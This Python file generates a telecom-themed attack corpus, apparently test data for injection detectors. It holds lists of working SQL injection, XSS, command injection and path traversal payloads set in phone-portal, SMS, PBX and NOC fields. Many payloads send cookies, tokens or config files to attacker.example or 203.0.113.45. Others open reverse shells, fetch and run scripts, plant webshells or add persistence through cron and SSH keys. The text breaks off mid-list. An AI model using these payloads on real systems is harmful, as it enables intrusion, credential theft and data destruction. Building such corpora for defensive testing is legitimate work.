"""Held-out attack corpus "telecom" (ids ha35-NNNNN).

Working payloads hidden in the notations and fields of a carrier portal, a CPaaS/SMS
dashboard, a VoIP PBX admin panel and a NOC ticket tool: phone numbers, SMS templates,
USSD strings, APN names, SIP URIs and headers, dial plans, CDR filters, porting PINs,
ticket notes. Each class is "<context>-<technique>[+<encoding>]": the context names the
field and the sink the vulnerable app puts the value in (a quoted SQL string, a shell
line, a file path, a fetched URL, a server-side template, HTML, a header or log line,
an LDAP filter or XPath expression...); "plain-" classes carry no domain dressing.

All payloads were written for this corpus from an understanding of each technique;
nothing is copied from a public payload list. Attacker infrastructure is limited to
attacker.example, *.attacker.example, 203.0.113.0/24 and 198.51.100.0/24; every
secret is a fake placeholder.
Output: attacks.jsonl next to this file; byte-identical on every run.
"""
import json
import random
import sys
from pathlib import Path

SEED = 3502
PREFIX = "ha35"
MIN_LITERAL_SHARE = 0.80

# --------------------------------------------------------------------------
# sqli
# --------------------------------------------------------------------------
SQLI = [
    ("cdr_search-boolean_or", "+15550104477' OR '1'='1"),
    ("contact_search-union_select", "Müller' UNION SELECT login, password_hash FROM portal_users-- -"),
    ("cdr_search-union_select", "5550100' UNION SELECT msisdn, imsi, ki, NULL, NULL FROM sim_inventory-- -"),
    ("cdr_search-time_blind_pg", "15550104477'||(SELECT CASE WHEN substr((SELECT password_hash FROM portal_users WHERE login='admin'),1,1)='$' THEN pg_sleep(6) ELSE pg_sleep(0) END)||'"),
    ("cell_lookup-numeric_union", "45211 UNION SELECT 1, current_user, version(), inet_server_addr()::text"),
    ("cell_lookup-numeric_boolean", "20117 OR 1=1"),
    ("cdr_sort-orderby_case", "calldate,(CASE WHEN (SELECT substring(secret,1,1) FROM sip_peers WHERE name='trunk-out')='a' THEN billsec ELSE duration END)"),
    ("ticket_search-like_breakout", "fiber cut%' AND (SELECT count(*) FROM noc_users WHERE role='admin' AND password LIKE 'a%')>0 AND '%'='"),
    ("porting_pin-stacked_update", "4417'; UPDATE port_requests SET status='approved', pin_verified=true WHERE pon='77812';--"),
    ("sms_keyword-stacked_drop", "STOP'; DROP TABLE optouts;--"),
    ("apn_name-error_extractvalue", "internet.example' AND extractvalue(1,concat(0x7e,(SELECT concat(user,0x3a,authentication_string) FROM mysql.user LIMIT 1)))-- -"),
    ("cdr_search-error_cast_pg", "15550104477' AND 1=CAST((SELECT string_agg(login||':'||password_hash,',') FROM portal_users) AS int)--"),
    ("did_range-mssql_waitfor_conditional", "5550100'; IF (SELECT TOP 1 SUBSTRING(pin,1,1) FROM voicemail_boxes WHERE mailbox='1001')='4' WAITFOR DELAY '0:0:7'--"),
    ("voicemail_box-mysql_sleep_conditional", "1001' AND IF(ASCII(SUBSTRING((SELECT password FROM voicemail WHERE mailbox='1001'),1,1))>52,SLEEP(5),0)-- -"),
    ("sms_log-sqlite_heavy_query", "+447700900123' AND 1=(CASE WHEN substr((SELECT api_key FROM accounts LIMIT 1),1,1)='s' THEN like('ABCDEFG',upper(hex(randomblob(300000000)))) ELSE 1 END)--"),
    ("noc_login-comment_truncation", "noc_admin' -- -"),
    ("caller_name-second_order_union", "Brien Plumbing' UNION SELECT login, password_hash FROM portal_users WHERE 'a'='a"),
    ("did_lookup-mssql_oob_dns", r"5550100'; DECLARE @h varchar(300); SELECT @h='\\'+(SELECT TOP 1 secret FROM sip_peers)+'.oob.attacker.example\x'; EXEC master..xp_dirtree @h;--"),
    ("porting_lookup-oracle_utl_http", "77812'||UTL_HTTP.REQUEST('http://ora.attacker.example/'||(SELECT password FROM billing_admins WHERE ROWNUM=1))||'"),
    ("porting_lookup-oracle_error_ctxsys", "77812' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE ROWNUM=1))--"),
    ("sip_user_lookup-mysql_load_file_oob", r"x' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT secret FROM sip_users LIMIT 1),'.dns.attacker.example\\a')),2-- -"),
    ("recording_search-into_outfile_webshell", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/recordings/s.php'-- -"),
    ("cdr_search-pg_copy_to_program", "1'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.45/p.sh | sh';--"),
    ("auth_vector-boolean_substr", "+15550104477' AND substr((SELECT ki FROM sim_auth WHERE imsi='310260000000123'),1,1)='A"),
    ("ticket_create-insert_subquery", "Outage at LDN-1123', (SELECT string_agg(api_key, ';') FROM api_credentials), 'P1')--"),
    ("profile_update-update_set_extra", "Priya', role='admin', credit_limit=99999 WHERE msisdn='15550104477'-- -"),
    ("cdr_search-backslash_escape_bypass", "5550100\\' OR 1=1-- -"),
    ("cdr_search-gbk_multibyte+urlenc", "5550100%bf%27 OR 1=1-- -"),
    ("subscriber_report-mssql_having_error", "' GROUP BY msisdn HAVING 1=1--"),
    ("carrier_filter-in_list_breakout", "T-Example','Vodaexample') OR 1=1-- -"),
    ("mcc_filter-numeric_union+comment_spaces", "310/**/UNION/**/SELECT/**/NULL,concat(login,0x3a,password_hash),NULL/**/FROM/**/portal_users"),
    ("mnc_filter-versioned_comment+case_mix", "260' /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,@@version,3-- -"),
    ("ami_user_lookup-union+urlenc", "%27%20UNION%20SELECT%20username%2Csecret%20FROM%20ami_users--%20-"),
    ("did_lookup-boolean+double_urlenc", "5550100%2527%2520OR%25201%253D1--%2520-"),
    ("cdr_page-limit_procedure_analyse", "10 PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("cdr_offset-stacked_sleep_pg", "0; SELECT pg_sleep(8)--"),
    ("astdb_key-sqlite_master_union", "SIP/1001' UNION SELECT name, sql FROM sqlite_master--"),
    ("astdb_key-sqlite_attach_webshell", "x'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.t(c text); INSERT INTO x.t VALUES('<?php system($_GET[0]); ?>');--"),
    ("billing_search-mssql_xp_cmdshell", "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami';--"),
    ("billing_search-oracle_boolean_subquery", "INV-88123' AND 1=(SELECT 1 FROM dual WHERE (SELECT SUBSTR(password,1,1) FROM billing_admins WHERE ROWNUM=1)='x')--"),
    ("sip_peer_lookup-union_all_nulls", "trunk-out' UNION ALL SELECT name, secret, host, NULL FROM sip_peers-- -"),
    ("ussd_code_lookup-concat_exfil", "*100#'||(SELECT password FROM ussd_admins LIMIT 1)||'"),
    ("dispute_amount-numeric_derived_sleep", "14.99 AND (SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("invoice_id-numeric_conditional_error", "88123-(SELECT CASE WHEN (SELECT count(*) FROM pg_shadow)>0 THEN 0 ELSE 1/0 END)"),
    ("site_report-stacked_create_role", "LDN-1123'; CREATE ROLE ops2 WITH LOGIN SUPERUSER PASSWORD 'placeholder-not-real';--"),
    ("cdr_date-between_breakout", "2024-03-11' AND '2099-12-31' OR '1'='1"),
    ("tower_search-information_schema_union", "0' UNION SELECT table_name, column_name FROM information_schema.columns WHERE table_schema=database()-- -"),
    ("rate_deck_prefix-like_union", "44%' UNION SELECT prefix, carrier_cost, margin_pct FROM rate_deck_internal-- -"),
    ("cell_lookup-pg_dollar_quote_copy", "45211; CREATE TABLE t(x text); COPY t FROM $$/etc/asterisk/manager.conf$$; SELECT * FROM t--"),
    ("did_lookup-mssql_char_xp_cmdshell", "5550100'; DECLARE @c varchar(99)=CHAR(119)+CHAR(104)+CHAR(111)+CHAR(97)+CHAR(109)+CHAR(105); EXEC master..xp_cmdshell @c;--"),
    ("sms_keyword-boolean+comment_spaces+case_mix", "HELP'/**/oR/**/1=1#"),
    ("cnam_lookup-mysql_updatexml_error", "15550104477' AND updatexml(1,concat(0x7e,(SELECT group_concat(name,0x3a,secret) FROM sip_buddies)),1)-- -"),
    ("imsi_lookup-numeric_mssql_exec_concat", "310260000000123; EXEC('WAITF'+'OR DELAY ''0:0:9''')--"),
    ("porting_lookup-pg_chr_concat", "77812' AND 1=(SELECT COUNT(*) FROM portal_users WHERE login=CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110) AND password_hash LIKE CHR(36)||'2b%')--"),
    ("msisdn_update-pg_json_operator", "15550104477' OR (profile->>'role')='admin' OR 'a'='b"),
    ("voicemail_search-mysql_hex_literal", "x' UNION SELECT mailbox, password FROM voicemail WHERE context=0x64656661756c74-- -"),
    ("queue_stats-group_concat_union", "support' UNION SELECT GROUP_CONCAT(username,':',secret SEPARATOR ';'),2,3 FROM ami_users-- -"),
    ("ticket_search-mysql_double_query_error", "x' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),0x3a,FLOOR(RAND(0)*2))k FROM information_schema.tables GROUP BY k)y)-- -"),
    ("plain-tautology", "' OR 'a'='a"),
    ("plain-tautology_paren", "') OR ('x'='x"),
    ("plain-order_by_probe", "1' ORDER BY 9-- -"),
    ("plain-stacked_sleep_pg", "'; SELECT pg_sleep(10)--"),
    ("plain-error_convert_mssql", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-dq_tautology", "\") OR 1=1 LIMIT 1-- -"),
    ("plain-numeric_or", "1 OR 2>1"),
]

SQLI_FIELDS = [
    ("cdr_search", "+15550104477"), ("did_lookup", "5550100"),
    ("ticket_lookup", "INC-20240311-0042"), ("porting_lookup", "PON77812"),
    ("site_lookup", "LDN-1123"), ("trunk_lookup", "trunk-out"), ("extension_lookup", "1001"),
]
SQLI_SUFFIXES = [
    ("boolean_or", "' OR 'x'='x"),
    ("union_select", "' UNION SELECT login,password_hash FROM portal_users-- -"),
    ("time_blind_mysql", "' AND SLEEP(7)-- -"),
    ("stacked_sleep_pg", "';SELECT pg_sleep(7)--"),
    ("error_convert_mssql", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("stacked_update", "'; UPDATE accounts SET balance=9999 WHERE 1=1--"),
]


def tpl_sqli(rng, n):
    combos = [(f, s) for f in SQLI_FIELDS for s in SQLI_SUFFIXES]
    out = []
    for (ctx, val), (tech, suf) in rng.sample(combos, n):
        out.append((f"{ctx}-{tech}", val + suf))
    return out


# --------------------------------------------------------------------------
# xss
# --------------------------------------------------------------------------
XSS = [
    ("sms_preview-svg_onload", "Hi {{first_name}}, your code is 4471 <svg onload=alert(document.domain)> Reply STOP to end"),
    ("sms_preview_de-img_onerror", "Ihr Code lautet 4471 <img src=x onerror=alert(document.domain)> Antworten Sie STOPP zum Abmelden"),
    ("ticket_note-img_onerror_exfil", "Site LDN-1123 back up <img src=x onerror=\"fetch('https://attacker.example/c?'+encodeURIComponent(document.cookie))\">"),
    ("cnam_display-script_tag", "<script>new Image().src='//attacker.example/k?'+localStorage.getItem('token')</script>"),
    ("sip_display_name-attr_breakout_autofocus", "Front Desk\" autofocus onfocus=\"alert(1)\" x=\""),
    ("apn_label-attr_breakout_script_src", "internet.example\"><script src=https://attacker.example/x.js></script>"),
    ("contact_js_string-quote_breakout", "O';fetch('//attacker.example/?'+document.cookie);//"),
    ("contact_js_string-script_close", "Priya</script><script>alert(document.domain)</script>"),
    ("callback_url-javascript_scheme", "javascript:fetch('//attacker.example/'+document.cookie)"),
    ("callback_url-javascript_scheme+html_entities", "jav&#x61;script:alert(document.domain)"),
    ("callback_url-javascript_scheme_tab_split", "java\tscript:alert(document.cookie)"),
    ("ivr_ssml_preview-audio_onerror", "<speak>Your balance is <say-as interpret-as=\"currency\">$4</say-as><audio src=\"x\" onerror=\"alert(document.domain)\"></audio></speak>"),
    ("tower_map_popup-details_ontoggle", "LDN-1123 sector 2 <details open ontoggle=alert(document.domain)><summary>VSWR</summary></details>"),
    ("mms_svg-svg_script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><rect width=\"10\" height=\"10\"/></svg>"),
    ("runbook_markdown-link_javascript", "See runbook: [MSC failover steps](javascript:alert(document.domain))"),
    ("angular_dashboard-csti_constructor", "Caller {{constructor.constructor('alert(document.domain)')()}}"),
    ("vue_dashboard-csti_c_constructor", "{{_c.constructor('alert(document.cookie)')()}}"),
    ("ticket_title-title_breakout", "P1 outage</title><img src=1 onerror=alert(1)>"),
    ("sms_body_textarea-textarea_breakout", "Reply STOP</textarea><svg/onload=alert(document.cookie)>"),
    ("cdr_viewer-iframe_srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("caller_name-input_autofocus", "<input autofocus onfocus=alert(document.domain)>"),
    ("sms_preview-video_source_onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("ticket_note-body_onpageshow", "<body onpageshow=alert(document.cookie)>"),
    ("ticket_note-base_href_hijack", "<base href=\"https://attacker.example/\">"),
    ("ticket_note-meta_refresh_redirect", "Maintenance notice <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/portal-login\">"),
    ("ticket_note-form_credential_phish", "<form action=https://attacker.example/collect method=post><p>Session expired, re-enter password:</p><input name=p type=password><button>OK</button></form>"),
    ("cnam_display-svg_animate_onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("sip_user_agent-object_data_uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>"),
    ("sms_preview-script_tag+case_mix", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"),
    ("apn_label-attr_breakout+urlenc", "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("contact_js_string-quote_breakout+unicode_escape", "';\\u0061lert(document.domain)//"),
    ("tower_map_popup-href_javascript+html_entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">site map</a>"),
    ("inline_json-script_close", "\"}</script><img src=x onerror=alert(1)>"),
    ("dlr_log_viewer-img_in_dlr_text", "id:1f3a9c stat:DELIVRD err:000 text:<img src=x onerror=alert(document.domain)>"),
    ("sip_capture_viewer-from_display_name", "From: \"<svg onload=alert(1)>\" <sip:1000@pbx.example.com>;tag=1928301774"),
    ("ticket_note-marquee_onstart", "<marquee onstart=alert(document.domain)>maintenance tonight</marquee>"),
    ("support_chat-dynamic_import", "<img src=/nonexistent.png onerror=import('//attacker.example/m.js')>"),
    ("callback_url-javascript_comment_disguise", "javascript:/*https://hooks.example.com/dlr*/alert(document.domain)"),
    ("sms_preview_js_template-interpolation", "${alert(document.domain)}"),
    ("ticket_note-fixed_overlay_mouseover", "<div style=\"position:fixed;inset:0\" onmouseover=\"alert(document.cookie)\"></div>"),
    ("sms_template_html_comment-comment_breakout", "--><script>alert(1)</script><!--"),
    ("noc_wallboard_css-style_breakout", "</style><script>alert(document.domain)</script>"),
    ("cell_label-svg_tagged_template", "<svg/onload=alert`1`>"),
    ("contact_js_string-backslash_escape_bypass", "\\';alert(1)//"),
    ("agent_name-script_tag+double_urlenc", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("sms_preview-img_onerror_eval_atob+base64", "<img src=x onerror=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8/Yz0nK2RvY3VtZW50LmNvb2tpZSk='))>"),
    ("caller_name-event_handler+html_entities", "<img src=x onerror=&#97&#108&#101&#114&#116&#40&#49&#41>"),
    ("noc_chat-anchor_javascript", "<a href=\"javascript:alert(document.domain)\">click for outage map</a>"),
    ("sip_display_name-unquoted_attr", "x onmouseover=alert(1)"),
    ("apn_label-single_quote_attr", "' onfocus='alert(1)' autofocus='"),
    ("tower_map_popup-iframe_javascript", "<iframe src=javascript:alert(document.domain)>"),
    ("ussd_menu_preview-button_formaction", "<form><button formaction=javascript:alert(1)>1) Balance</button></form>"),
    ("ticket_note-svg_xlink_href", "<svg><a xlink:href=\"javascript:alert(document.domain)\"><text x=\"20\" y=\"20\">open ticket</text></a></svg>"),
    ("porting_notes-audio_src_onerror", "<audio src onerror=alert(document.domain)>"),
    ("sms_preview-animationstart", "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=\"alert(document.domain)\">Reply STOP</p>"),
    ("cdr_viewer-popover_beforetoggle", "<button popovertarget=x>Details</button><div popover id=x onbeforetoggle=alert(document.domain)>CDR</div>"),
    ("sip_display_name-svg_script+html_entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("caller_name-onerror_throw", "<img src=x onerror=\"window.onerror=alert;throw 1\">"),
    ("contact_card-vcard_field", "BEGIN:VCARD\nVERSION:3.0\nFN:Priya<img src=x onerror=alert(1)>\nTEL:+15550104477\nEND:VCARD"),
    ("sms_template_editor-link_onclick", "Track: <a href=\"#\" onclick=\"fetch('//attacker.example/?'+document.cookie)\">https://trk.example.com/abc</a> Reply STOP to end"),
    ("plain-script_alert", "<script>alert(1)</script>"),
    ("plain-attr_breakout_svg", "\"><svg onload=alert(1)>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
    ("plain-javascript_url", "javascript:alert(1)"),
    ("plain-js_string_minus", "'-alert(1)-'"),
    ("plain-body_onload", "<body onload=alert(1)>"),
]

XSS_PREFIXES = [
    ("caller_name", "Caller: "), ("ticket_note", "Site LDN-1123 restored "),
    ("sms_preview", "Hi {{first_name}}, "), ("porting_notes", "LOA attached "),
    ("cnam_display", "CNAM=ACME CORP "),
]
XSS_VECTORS = [
    ("svg_onload", "<svg onload=alert(document.domain)>"),
    ("img_onerror_cookie", "<img src=x onerror=alert(document.cookie)>"),
    ("attr_breakout_iframe", "\"><iframe src=javascript:alert(1)>"),
    ("details_ontoggle_exfil", "<details open ontoggle=fetch('//attacker.example/'+document.cookie)>"),
]


def tpl_xss(rng, n):
    combos = [(p, v) for p in XSS_PREFIXES for v in XSS_VECTORS]
    return [(f"{ctx}-{tech}", pre + vec) for (ctx, pre), (tech, vec) in rng.sample(combos, n)]


# --------------------------------------------------------------------------
# cmdi
# --------------------------------------------------------------------------
CMDI = [
    ("noc_ping-semicolon", "192.0.2.44; cat /etc/asterisk/manager.conf"),
    ("noc_ping-pipe", "sbc01.example.net | id"),
    ("noc_ping-and_chain_download", "10.20.0.1 && curl -s https://attacker.example/s.sh | sh"),
    ("noc_ping-or_chain_download", "nonexistent.invalid || wget -qO- http://203.0.113.45/b | sh"),
    ("noc_traceroute-dollar_subst_dns_exfil", "$(cat /etc/kamailio/kamctlrc | base64 -w0 | cut -c1-60).exfil.attacker.example"),
    ("noc_traceroute-backticks", "`uname -a | tr ' ' '-'`.attacker.example"),
    ("enum_lookup-newline", "7.7.4.4.0.1.0.5.5.5.1.e164.arpa\nid"),
    ("enum_lookup-newline+urlenc", "7.7.4.4.0.1.0.5.5.5.1.e164.arpa%0auname%20-a"),
    ("modem_at-single_quote_breakout", "AT+CFUN=1,1'; nc 203.0.113.45 4444 -e /bin/sh; echo '"),
    ("router_uci-single_quote_breakout", "internet.example'; uci set dropbear.@dropbear[0].PasswordAuth=on; /etc/init.d/dropbear restart; echo '"),
    ("asterisk_cli-double_quote_breakout", "trunk-out\"; id; echo \""),
    ("asterisk_cli-dollar_subst_in_dq", "trunk-out$(id>/tmp/p)"),
    ("cnam_system-semicolon_ifs_spaces", "Front Desk;curl${IFS}-s${IFS}http://203.0.113.45/a|sh"),
    ("prompt_convert-filename_subst_sleep", "after-hours$(sleep 9).wav"),
    ("prompt_convert-filename_semicolon", "greeting.wav;rm -rf /var/lib/asterisk/sounds/custom;#.wav"),
    ("tcpdump_filter-arg_injection_postrotate", "udp port 5060 -w /tmp/cap -W 1 -G 2 -z /var/spool/asterisk/tmp/upl_8812.sh"),
    ("curl_test-arg_injection_output", "https://attacker.example/shell.txt -o /var/www/html/admin/cdr/s.php"),
    ("ssh_jump-arg_injection_proxycommand", "-oProxyCommand=curl${IFS}attacker.example/x|sh x"),
    ("find_recordings-arg_injection_exec", "*.wav -exec sh -c 'curl -d @/etc/asterisk/pjsip.conf https://attacker.example/u' ;"),
    ("tar_backup-arg_injection_checkpoint", "--checkpoint=1 --checkpoint-action=exec=id"),
    ("win_ping-ampersand", "192.0.2.44 & whoami"),
    ("win_ping-pipe_powershell", "192.0.2.44 | powershell -nop -c \"iwr https://attacker.example/p.ps1 | iex\""),
    ("win_ping-ampersand_caret_obfuscation", "192.0.2.44 & w^h^o^a^m^i"),
    ("snmpwalk_community-semicolon", "public; cat /etc/snmp/snmpd.conf > /var/www/html/s.txt"),
    ("noc_ping-brace_expansion", "192.0.2.44;{cat,/etc/passwd}"),
    ("noc_ping-semicolon_glob_wildcards", "192.0.2.44;/???/?at /e??/pa??wd"),
    ("noc_ping-semicolon_quote_splicing", "192.0.2.44;w'h'o\"am\"i"),
    ("noc_ping-semicolon_backslash_splicing", "192.0.2.44;c\\at /e\\tc/sha\\dow"),
    ("noc_ping-printf_hex+hex_escape", "192.0.2.44;$(printf '\\x69\\x64')"),
    ("noc_ping-base64_pipe_sh+base64", "192.0.2.44;echo Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUvcyB8IHNo|base64 -d|sh"),
    ("noc_ping-reverse_shell_bash", "192.0.2.44; bash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'"),
    ("noc_ping-time_blind_sleep", "192.0.2.44 && sleep 11"),
    ("noc_ping-dns_exfil_nslookup", "192.0.2.44;nslookup $(whoami).x.attacker.example"),
    ("sip_options_probe-sip_param_semicolon", "100@pbx.example.com;transport=udp;id"),
    ("sip_options_probe-subst_in_user", "$(id)@pbx.example.com"),
    ("ussd_gateway-pipe_exfil", "*100#|nc 203.0.113.45 9001 < /etc/shadow"),
    ("ussd_gateway-single_quote_subst", "*100#'$(id)'"),
    ("sms_send_cli-newline", "Your code is 4471\ncurl -s https://attacker.example/s | sh"),
    ("sms_send_cli-dq_subst", "Your code is $(head -c 120 /etc/smsd.conf)"),
    ("sms_send_cli_zh-dq_subst_download", "您的验证码是4471 $(curl -s attacker.example/c|sh)"),
    ("firmware_url-wget_arg_injection", "https://attacker.example/fw.bin -O /etc/rc.local"),
    ("cdr_export_zip-zip_testcommand", "cdr-2024-03.csv -T -TT 'sh -c id'"),
    ("noc_ping-perl_reverse_shell", "192.0.2.44;perl -e 'use Socket;$i=\"203.0.113.45\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'"),
    ("noc_ping-python_oneliner", "192.0.2.44 && python3 -c 'import os;os.system(\"id\")'"),
    ("noc_ping-semicolon_tab_separator", "192.0.2.44;cat\t/etc/asterisk/sip.conf"),
    ("noc_ping-semicolon_ifs_positional", "192.0.2.44;cat$IFS$9/etc/passwd"),
    ("noc_ping-dev_tcp_redirect", "192.0.2.44;sh</dev/tcp/203.0.113.45/80"),
    ("noc_ping-semicolon+urlenc", "192.0.2.44%3Bcat%20%2Fetc%2Fpasswd"),
    ("noc_ping-semicolon+double_urlenc", "192.0.2.44%253Bid"),
    ("noc_ping-crlf_separator+urlenc", "192.0.2.44%0d%0aid"),
    ("mtr_target-background_exfil", "sbc01.example.net & curl -X POST --data-binary @/etc/asterisk/manager.conf https://attacker.example/u &"),
    ("asterisk_system-callerid_all", "\"Priya;wget -q -O- attacker.example/x|sh\" <15550104477>"),
    ("iperf_target-variable_slicing", "192.0.2.44;cat ${HOME:0:1}etc${HOME:0:1}shadow"),
    ("noc_ping-env_exfil", "192.0.2.44;env|curl -d @- https://attacker.example/e"),
    ("noc_ping-crontab_persistence", "192.0.2.44;(crontab -l;echo '* * * * * curl -s attacker.example/b|sh')|crontab -"),
    ("noc_ping-ssh_key_persistence", "192.0.2.44;echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0 noc' >> /root/.ssh/authorized_keys"),
    ("win_ping-certutil_download", "192.0.2.44 && certutil -urlcache -split -f http://203.0.113.45/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"),
    ("win_ping-delayed_var_obfuscation", "192.0.2.44 & set x=who&& call %x%ami"),
    ("win_ping-powershell_encodedcommand+base64", "192.0.2.44 | powershell -NoP -EncodedCommand dwBoAG8AYQBtAGkA"),
    ("plain-semicolon_id", "; id"),
    ("plain-pipe_passwd", "| cat /etc/passwd"),
    ("plain-dollar_subst", "$(whoami)"),
    ("plain-backticks", "`id`"),
    ("plain-and_ls", "&& ls -la /"),
    ("plain-or_ping_delay", "|| ping -c 10 127.0.0.1"),
    ("plain-sleep_comment", "; sleep 15 #"),
]

CMDI_HOSTS = [("noc_ping", "192.0.2.44"), ("noc_traceroute", "sbc01.example.net"),
              ("sip_options_probe", "pbx02.example.com"), ("mtr_target", "10.20.0.1")]
CMDI_INJECTIONS = [
    ("semicolon", "; cat /etc/asterisk/sip.conf"),
    ("pipe_reverse_shell", " | nc 203.0.113.45 4444 -e /bin/sh"),
    ("dollar_subst_download", "$(curl -s attacker.example/x|sh)"),
    ("backticks", "`id`"),
    ("and_chain_dropper", " && wget -qO /tmp/.x http://198.51.100.7/x && sh /tmp/.x"),
]


def tpl_cmdi(rng, n):
    combos = [(h, i) for h in CMDI_HOSTS for i in CMDI_INJECTIONS]
    return [(f"{ctx}-{tech}", host + inj) for (ctx, host), (tech, inj) in rng.sample(combos, n)]


# --------------------------------------------------------------------------
# traversal
# --------------------------------------------------------------------------
TRAVERSAL = [
    ("ivr_prompt_file-dotdot", "../../../../../../etc/asterisk/manager.conf"),
    ("voicemail_msg-dotdot_after_box", "default/1001/INBOX/../../../../../../etc/passwd"),
    ("recording_download-dotdot+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fasterisk%2Fpjsip.conf"),
    ("recording_download-dotdot+double_urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow"),
    ("log_viewer-prefix_then_dotdot", "/var/log/asterisk/../../../etc/shadow"),
    ("log_viewer-absolute_path", "/etc/kamailio/kamailio.cfg"),
    ("firmware_image-dotdot_backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("ticket_attachment-mixed_slashes", "..\\../..\\../Windows/System32/drivers/etc/hosts"),
    ("moh_class-dotdot_directory_listing", "../../../../root/.ssh"),
    ("sms_template_file-strip_once_bypass", "....//....//....//etc/passwd"),
    ("ivr_prompt_file-dotdot+overlong_utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("ivr_prompt_file-slash+overlong_utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("recording_download-extension_truncation+nullbyte", "../../../../etc/asterisk/manager.conf%00.wav"),
    ("recording_download-dotdot_semicolon", "..;/..;/..;/WEB-INF/web.xml"),
    ("language_pack-dotdot_after_lang", "en/../../../../../proc/self/environ"),
    ("zip_entry-zip_slip", "../../../../var/www/html/cdr/s.php"),
    ("ticket_attachment-dotdot+unicode_fullwidth", "．．／．．／．．／etc／passwd"),
    ("voicemail_greeting-dotdot+iis_u_encoding", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("provisioning_file-proc_self_cmdline", "../../../../proc/self/cmdline"),
    ("log_viewer-proc_self_fd", "../../../proc/self/fd/3"),
    ("backup_restore-tar_entry_cron", "../../../../etc/cron.d/backup"),
    ("ivr_prompt_file-astdb", "../../../../../../var/lib/asterisk/astdb.sqlite3"),
    ("freeswitch_profile-vars_xml", "../../../../etc/freeswitch/vars.xml"),
    ("ticket_attachment-ssh_private_key", "../../../../../../root/.ssh/id_rsa"),
    ("log_viewer-windows_absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("log_viewer-unc_path", "\\\\attacker.example\\share\\x.wav"),
    ("recording_download-dots_only+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/asterisk/extensions.conf"),
    ("recording_download-dotdot+urlenc+case_mix", "%2E%2e%2F%2E%2e%2Fetc%2Fhosts"),
    ("moh_class-dotdot_backslash_webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("voicemail_msg-deep_dotdot", "../../../../../../../../../../../../etc/group"),
    ("sounds_lang-double_slash", "..//..//..//etc//passwd"),
    ("cdr_export_name-write_traversal", "../../../../var/www/html/admin/modules/cdr/x.php"),
    ("recording_download-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("recording_download-slash_only+double_urlenc", "..%252f..%252f..%252fetc%252fpasswd"),
    ("ivr_prompt_file-custom_then_dotdot", "custom/../../../../../etc/asterisk/voicemail.conf"),
    ("tls_cert_path-private_key", "../../../etc/asterisk/keys/asterisk.key"),
    ("provisioning_file-snakeoil_key", "../../../../etc/ssl/private/ssl-cert-snakeoil.key"),
    ("log_viewer-dotenv", "../../../../opt/portal/.env"),
    ("log_viewer-app_settings", "../../app/settings.py"),
    ("log_viewer-k8s_serviceaccount_token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("plain-dotdot_passwd", "../../../etc/passwd"),
    ("plain-backslash_boot_ini", "..\\..\\..\\boot.ini"),
    ("plain-absolute_shadow", "/etc/shadow"),
    ("plain-proc_version", "../../../../../../proc/version"),
    ("plain-dotdot+urlenc", "..%2f..%2f..%2fetc%2fpasswd"),
]

TRAV_PREFIXES = [("ivr_prompt_file", "custom/"), ("sounds_lang", "en/"),
                 ("voicemail_msg", "INBOX/"), ("recording_download", "monitor/2024/03/11/"),
                 ("provisioning_file", "")]
TRAV_TARGETS = ["etc/passwd", "etc/asterisk/manager.conf", "etc/shadow", "proc/self/environ",
